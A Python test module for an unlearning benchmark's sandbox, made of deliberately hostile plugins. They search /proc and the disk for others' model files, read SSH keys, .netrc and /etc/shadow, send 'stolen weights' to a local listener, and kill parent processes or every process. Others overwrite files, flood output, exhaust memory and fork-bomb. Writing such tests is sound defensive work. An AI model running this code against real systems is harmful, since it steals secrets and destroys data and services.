"""Malicious mu-bench plugins, for the sandbox's tests: each entry point attacks the
harness in one way and records how far it got in `attack.json` in its working folder
(the seed folder), rewritten after every step, so a test can assert that the attack
failed even when the worker was killed half-way. Each attack is also a plain function
of an `Aim`, so the sandbox's own tests can run it in a bare forked child.

Knobs, all environment variables a test sets (a real attacker would not need them; they
make the attacks aim at what the test watches and keep them bounded on a shared machine):

    MU_BENCH_HOSTILE_TARGETS   paths (os.pathsep-separated) to read, search or overwrite,
                               besides what the attack finds by itself
    MU_BENCH_HOSTILE_PORT      TCP port of a listener on 127.0.0.1
    MU_BENCH_HOSTILE_UDP_PORT  UDP port of a listener on 127.0.0.1
    MU_BENCH_HOSTILE_VICTIMS   pids to kill besides the parent and the grandparent
    MU_BENCH_HOSTILE_KILL_ALL  "1": also kill(-1), every process it may signal. Only in a
                               disposable PID namespace: unconfined as root it is fatal
    MU_BENCH_HOSTILE_BYTES     how much to flood, allocate or write (default: 1 TiB)
    MU_BENCH_HOSTILE_FORKS     how many processes to start (default 1000)
    MU_BENCH_HOSTILE_SECONDS   time allowed for a file-system search (default 20)
"""

from __future__ import annotations

import json
import os
import signal
import socket
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, ClassVar

import torch
from torch import nn

from mu_bench.method import Method, Reads
from mu_bench.task import UnlearnTask

REPORT = "attack.json"
CHUNK = 16 << 20
# Trees a search skips: system files hold no models and would eat the time budget.
PRUNE = {"proc", "sys", "dev", "usr", "lib", "lib64", "bin", "sbin", "boot", "etc", "run"}
PRUNE_NAMES = {".git", "node_modules", "site-packages", "__pycache__", ".venv", ".cache"}


@dataclass
class Aim:
    """What an attack knows: its folder, its own inputs, and optionally its model and
    forget set (to pick the stolen model that forgets best)."""

    seed_dir: Path
    inputs: list[Path] = field(default_factory=list)
    model: nn.Module | None = None
    forget: tuple[torch.Tensor, torch.Tensor] | None = None
    report: dict[str, Any] = field(default_factory=dict)
    own: list[Path] = field(default_factory=list)  # its request and private temp folder

    def record(self, **items: Any) -> None:
        self.report.update(items)
        tmp = self.seed_dir / (REPORT + ".tmp")
        tmp.write_text(json.dumps(self.report, default=str))
        os.replace(tmp, self.seed_dir / REPORT)

    def mine(self, path: Path) -> bool:
        """Its own files: reading those is allowed and proves nothing."""
        real = Path(os.path.realpath(path))
        own = [self.seed_dir, *self.inputs, *self.own]
        return any(real == p or p in real.parents for p in (Path(os.path.realpath(o)) for o in own))


def _env_int(name: str, default: int) -> int:
    return int(os.environ.get(name, default))


def targets() -> list[Path]:
    raw = os.environ.get("MU_BENCH_HOSTILE_TARGETS", "")
    return [Path(p) for p in raw.split(os.pathsep) if p]


def _pids() -> list[int]:
    try:
        return sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    except OSError:
        return []


def leaked_roots() -> list[Path]:
    """Folders other processes give away: the mu-bench variables in their environments,
    their working folders and the files they hold open, all through /proc."""
    found: list[Path] = []
    for pid in _pids():
        if pid == os.getpid():
            continue
        try:
            env = Path(f"/proc/{pid}/environ").read_bytes().split(b"\0")
            for item in env:
                key, _, value = item.decode(errors="replace").partition("=")
                if key.startswith(("MU_BENCH_", "MLFLOW_")) and value.startswith("/"):
                    found.append(Path(value))
        except OSError:
            pass
        for link in (f"/proc/{pid}/cwd", f"/proc/{pid}/root"):
            try:
                os.listdir(link)
                found.append(Path(link))
            except OSError:
                pass
        try:  # only files: opening a pipe's or a fifo's link could block
            for fd in os.listdir(f"/proc/{pid}/fd"):
                if os.readlink(f"/proc/{pid}/fd/{fd}").endswith(".pt"):
                    found.append(Path(f"/proc/{pid}/fd/{fd}"))
        except OSError:
            pass
    return found


def walk(roots: list[Path], deadline: float, aim: Aim) -> Iterator[Path]:
    """Every file under `roots` (a file root is itself), until the deadline."""
    seen: set[str] = set()
    for root in roots:
        if time.monotonic() > deadline:
            return
        if root.is_file() or str(root).startswith("/proc/") and "/fd/" in str(root):
            yield root
            continue
        for folder, dirs, files in os.walk(root, onerror=lambda e: None):
            if time.monotonic() > deadline:
                return
            real = os.path.realpath(folder)
            if real in seen or (real.count("/") == 1 and real.strip("/") in PRUNE):
                dirs[:] = []
                continue
            seen.add(real)
            dirs[:] = [d for d in dirs if d not in PRUNE_NAMES]
            for name in files:
                yield Path(folder) / name


def _try_read(path: Path, limit: int = 1 << 20) -> int | str:
    try:
        with open(path, "rb") as fh:
            return len(fh.read(limit))
    except OSError as exc:
        return f"{type(exc).__name__}: {exc.strerror}"


# --- the attacks ------------------------------------------------------------------------
def find_models(aim: Aim) -> nn.Module | None:
    """Search everywhere (the targets, what /proc leaks, then /) for *.pt files; load
    every one that fits the model and keep the one with the lowest forget accuracy."""
    deadline = time.monotonic() + _env_int("MU_BENCH_HOSTILE_SECONDS", 20)
    roots = targets() + leaked_roots() + [aim.seed_dir.parent, Path("/")]
    readable, denied, best, best_acc = [], 0, None, 2.0
    aim.record(attack="find-models", readable=readable, denied=0, best=None)
    for path in walk(roots, deadline, aim):
        if not str(path).endswith(".pt") and "/fd/" not in str(path) or aim.mine(path):
            continue
        try:
            state = torch.load(path, map_location="cpu", weights_only=True)
        except Exception:  # denied, or not a tensor file
            denied += 1
            continue
        readable.append(str(path))
        if aim.model is not None and aim.forget is not None and isinstance(state, dict):
            try:
                aim.model.load_state_dict(state)
            except Exception:
                continue
            with torch.no_grad():
                x, y = aim.forget
                acc = float((aim.model(x).argmax(1) == y).float().mean())
            if acc < best_acc:
                best, best_acc = state, acc
                aim.record(best=str(path), best_forget_acc=acc)
        aim.record(readable=readable, denied=denied)
    if best is not None and aim.model is not None:
        aim.model.load_state_dict(best)
        return aim.model
    return None


def read_secrets(aim: Aim) -> None:
    """Read every file of the targets (the test set, the store) and the usual secrets."""
    deadline = time.monotonic() + _env_int("MU_BENCH_HOSTILE_SECONDS", 20)
    home = Path(os.path.expanduser("~"))
    roots = [*targets(), *leaked_roots(), home / ".ssh", home / ".netrc", Path("/etc/shadow")]
    read: dict[str, int] = {}
    refused: dict[str, str] = {}
    for path in walk(roots, deadline, aim):
        if aim.mine(path):
            continue
        got = _try_read(path)
        (read if isinstance(got, int) else refused)[str(path)] = got
        aim.record(attack="read-secrets", read=read, refused=len(refused))
    aim.record(attack="read-secrets", read=read, refused=len(refused))


def tcp_connect(aim: Aim) -> None:
    port = int(os.environ["MU_BENCH_HOSTILE_PORT"])
    aim.record(attack="tcp", connected=False, sent=0)
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=3) as sock:
            aim.record(connected=True)
            sock.sendall(b"mu-bench-hostile: stolen weights\n")
            aim.record(sent=1)
    except OSError as exc:
        aim.record(error=f"{type(exc).__name__}: {exc}")


def udp_send(aim: Aim) -> None:
    port = int(os.environ["MU_BENCH_HOSTILE_UDP_PORT"])
    aim.record(attack="udp", sent=0)
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.sendto(b"mu-bench-hostile: stolen weights", ("127.0.0.1", port))
            aim.record(sent=1)
    except OSError as exc:
        aim.record(error=f"{type(exc).__name__}: {exc}")


def _ppid_of(pid: int) -> int | None:
    try:
        stat = Path(f"/proc/{pid}/stat").read_text()
        return int(stat.rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return None


def kill_above(aim: Aim) -> None:
    """SIGKILL the parent, the grandparent, the listed victims (and, when allowed, every
    process it may signal)."""
    parent = os.getppid()
    victims = [parent, _ppid_of(parent)]
    victims += [int(p) for p in os.environ.get("MU_BENCH_HOSTILE_VICTIMS", "").split(",") if p]
    results: dict[str, str] = {}
    aim.record(attack="kill", parent=parent, results=results)
    for pid in victims:
        if not pid or pid == os.getpid():
            continue
        try:
            os.kill(pid, signal.SIGKILL)
            results[str(pid)] = "killed"
        except OSError as exc:
            results[str(pid)] = f"{type(exc).__name__}: {exc.strerror}"
        aim.record(results=results)
    if os.environ.get("MU_BENCH_HOSTILE_KILL_ALL") == "1":
        try:
            os.kill(-1, signal.SIGKILL)
            results["-1"] = "killed"
        except OSError as exc:
            results["-1"] = f"{type(exc).__name__}: {exc.strerror}"
        aim.record(results=results)


def overwrite(aim: Aim) -> None:
    """Overwrite the start of every file it can open for writing under the targets, the
    folder around its seed folder (other seeds, the inputs) and its own inputs (hard
    links into the cache); drop a file in every folder it can."""
    deadline = time.monotonic() + _env_int("MU_BENCH_HOSTILE_SECONDS", 20)
    # the targets, the folders around its own (its job's, the other seeds'), its inputs
    roots = [*targets(), aim.seed_dir.parent, aim.seed_dir.parent.parent, *aim.inputs]
    overwritten: list[str] = []
    planted: list[str] = []
    refused = 0
    aim.record(attack="overwrite", overwritten=overwritten, planted=planted)
    folders: set[Path] = set()
    for path in walk(roots, deadline, aim):
        real = Path(os.path.realpath(path))
        if any(real == p or p in real.parents for p in (aim.seed_dir, *aim.own)):
            continue  # its own folders: writing there is allowed
        folders.add(path.parent)
        try:
            with open(path, "r+b") as fh:
                fh.write(b"PWNED by mu-bench-hostile")
            overwritten.append(str(path))
        except OSError:
            refused += 1
        aim.record(overwritten=overwritten, refused=refused)
    for folder in sorted(folders):
        try:
            (folder / "planted-by-hostile").write_text("x")
            planted.append(str(folder))
        except OSError:
            pass
    aim.record(overwritten=overwritten, planted=planted, refused=refused)


def flood(aim: Aim) -> None:
    """Write to stdout and stderr until MU_BENCH_HOSTILE_BYTES."""
    limit = _env_int("MU_BENCH_HOSTILE_BYTES", 1 << 40)
    line = (b"flood " * 170 + b"\n") * (1 << 10)  # about 1 MiB
    total = 0
    aim.record(attack="flood", written=0)
    while total < limit:
        for fd in (1, 2):
            total += os.write(fd, line)
        if total % (32 * len(line)) < 2 * len(line):
            aim.record(written=total)
    aim.record(written=total)


def memory(aim: Aim) -> None:
    """Allocate (and touch) 64 MiB at a time until MU_BENCH_HOSTILE_BYTES."""
    limit = _env_int("MU_BENCH_HOSTILE_BYTES", 1 << 40)
    held: list[bytearray] = []
    aim.record(attack="memory", allocated=0)
    try:
        while len(held) * (64 << 20) < limit:
            held.append(bytearray(64 << 20))
            aim.record(allocated=len(held) * (64 << 20))
    except MemoryError:
        aim.record(allocated=len(held) * (64 << 20), refused=True)
        raise


def fork_many(aim: Aim) -> None:
    """Start MU_BENCH_HOSTILE_FORKS processes that sleep."""
    count = _env_int("MU_BENCH_HOSTILE_FORKS", 1000)
    started: list[int] = []
    aim.record(attack="fork", started=0)
    try:
        for _ in range(count):
            pid = os.fork()
            if pid == 0:
                time.sleep(60)
                os._exit(0)
            started.append(pid)
            aim.record(started=len(started))
    except OSError as exc:
        aim.record(started=len(started), error=f"{type(exc).__name__}: {exc}")
        raise


def big_file(aim: Aim) -> None:
    """Write one file in the seed folder until MU_BENCH_HOSTILE_BYTES."""
    limit = _env_int("MU_BENCH_HOSTILE_BYTES", 1 << 40)
    block = b"\0" * CHUNK
    written = 0
    aim.record(attack="big-file", written=0)
    with open(aim.seed_dir / "huge.bin", "wb") as fh:
        while written < limit:
            fh.write(block)
            fh.flush()
            written += CHUNK
            aim.record(written=written)


ATTACKS = {
    "find-models": find_models,
    "read-secrets": read_secrets,
    "tcp": tcp_connect,
    "udp": udp_send,
    "kill": kill_above,
    "overwrite": overwrite,
    "flood": flood,
    "memory": memory,
    "fork": fork_many,
    "big-file": big_file,
}


# --- the plugins ------------------------------------------------------------------------
def _aim(task: UnlearnTask, with_forget: bool) -> Aim:
    seed_dir = Path.cwd()  # the worker runs in its job folder's output/
    job = seed_dir.parent
    spec = json.loads((job / "request.json").read_text())
    inputs = [job / p for p in spec["inputs"].values() if isinstance(p, str)]
    forget = None
    if with_forget:
        split = task.forget
        forget = (split.x, split.y)
    return Aim(seed_dir, inputs, task.model, forget, own=[job / "request.json", job / "tmp"])


class _Hostile(Method):
    reads: ClassVar[Reads] = "none"
    attack: ClassVar[str] = ""

    def unlearn(self, task: UnlearnTask) -> nn.Module:
        aim = _aim(task, with_forget=False)
        original = {k: v.clone() for k, v in task.model.state_dict().items()}
        ATTACKS[self.attack](aim)
        task.model.load_state_dict(original)
        return task.model


class FindModels(Method):
    """Searches the file system (and /proc) for model files and returns the one that
    does worst on its forget set (test plugin)."""

    reads: ClassVar[Reads] = "forget"

    def unlearn(self, task: UnlearnTask) -> nn.Module:
        original = {k: v.clone() for k, v in task.model.state_dict().items()}
        stolen = find_models(_aim(task, with_forget=True))
        if stolen is None:
            task.model.load_state_dict(original)
            return task.model
        return stolen


class ReadSecrets(_Hostile):
    """Reads the test set's and the store's files (test plugin)."""

    attack = "read-secrets"


class TcpConnect(_Hostile):
    """Connects to a TCP listener on 127.0.0.1 (test plugin)."""

    attack = "tcp"


class UdpSend(_Hostile):
    """Sends a UDP datagram to 127.0.0.1 (test plugin)."""

    attack = "udp"


class KillAbove(_Hostile):
    """Kills its parent and grandparent (test plugin)."""

    attack = "kill"


class Overwrite(_Hostile):
    """Overwrites every file it can open under the harness's folders (test plugin)."""

    attack = "overwrite"


class Flood(_Hostile):
    """Floods stdout and stderr (test plugin)."""

    attack = "flood"


class Memory(_Hostile):
    """Allocates past its memory cap (test plugin)."""

    attack = "memory"


class ForkMany(_Hostile):
    """Starts many processes (test plugin)."""

    attack = "fork"


class BigFile(_Hostile):
    """Writes a huge file (test plugin)."""

    attack = "big-file"
